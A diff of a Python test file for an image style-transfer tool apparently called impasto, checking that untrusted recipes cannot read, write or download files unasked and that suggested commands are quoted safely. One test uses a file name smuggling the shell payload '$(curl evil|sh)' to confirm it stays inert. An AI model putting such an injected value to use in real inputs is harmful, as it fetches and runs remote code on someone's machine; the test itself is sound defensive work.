@@ -1,5 +1,6 @@
 """A stranger's recipe neither writes nor reads a file nor downloads, unless the user names it in that call."""
 
+import ast
 import os
 import shlex
 import subprocess
@@ -72,7 +73,7 @@ def beside(recipe):
     ("recipe", "message"),
     [
         (PLANT, r"asks gatys to write the file '.*planted' \(checkpoint\), which a picture may not"),
-        (COPY, r"(?s)asks gatys to read '.*' \(init_file\).*--allow .*planted"),
+        (COPY, r"(?s)asks gatys to read '.*' \(init_file\).*allow=.*planted"),
         (COPY.replace("gatys", "reconstruct"), r"asks reconstruct to read '.*' \(init_file\)"),
         ('[[stages]]\nstage = "mask-file"\npath = "{target}"', r"asks mask-file to read '.*' \(path\)"),
         ('[[stages]]\nstage = "mask-file"\npath = ""\nstyles = ["{target}"]', r"mask-file to read '.*' \(styles\)"),
@@ -83,7 +84,7 @@ def beside(recipe):
         ('[[stages]]\nstage = "cyclegan"\nnetwork = "~/x.pth"', r"asks cyclegan to read '~/x.pth' \(network\)"),
         ('[[stages]]\nstage = "semantic"\nfile = "{target}"', r"asks semantic to read '.*' \(file\)"),
         ('[[stages]]\nstage = "mask-grabcut"\nscribbles = "{target}"', r"asks mask-grabcut to read '.*'"),
-        (DOWNLOAD, r"(?s)asks gatys to download vgg19-.*, 575 MB.*--allow vgg19-"),
+        (DOWNLOAD, r"(?s)asks gatys to download vgg19-.*, 575 MB.*allow=.*vgg19-"),
     ],
 )
 def test_a_picture_s_recipe_may_not(picture, recipe, message, folder, monkeypatch):
@@ -108,12 +109,14 @@ def test_a_file_called_like_a_network_or_like_nothing_is_a_file(recipe):
         impasto.Pipeline.load(carried(recipe))
 
 
-def test_what_is_to_be_typed_is_quoted_for_the_shell():
+def test_what_is_to_be_typed_is_quoted_for_python_and_for_the_shell(capsys):
     path = carried('[[stages]]\nstage = "gatys"\nencoder = "it\'s$(curl evil|sh).pth"')
     with pytest.raises(RecipeError) as caught:
         impasto.Pipeline.load(path)
-    (line,) = [line for line in str(caught.value).splitlines() if "--allow" in line]
-    typed = line.partition("what to type: ")[2].partition("; in Python")[0]
+    typed = str(caught.value).partition("what to type: Pipeline.load(..., allow=")[2].removesuffix(")")
+    assert ast.literal_eval(typed) == ["it's$(curl evil|sh).pth"]
+    assert cli.main(["run", str(path), "--content", "photo.png", "-o", "out.png"]) == 2
+    typed = capsys.readouterr().err.partition("what to type: ")[2]
     assert shlex.split(typed) == ["--allow", "it's$(curl evil|sh).pth"]
 
 
@@ -192,8 +195,9 @@ def hook(event, arguments):
 sys.addaudithook(hook)
 from impasto.cli import main
 code = main(sys.argv[1:])
-# Python keeps the bytecode of what it imports.
-print(code, [entry for entry in touched if "__pycache__" not in str(entry) and "/dev/null" not in str(entry)])
+# Python keeps the bytecode of what it imports; the folder of the output is tried before anything is painted.
+usual = "__pycache__", "/dev/null", ".impasto-"
+print(code, [entry for entry in touched if not any(name in str(entry) for name in usual)])
 """
 
 
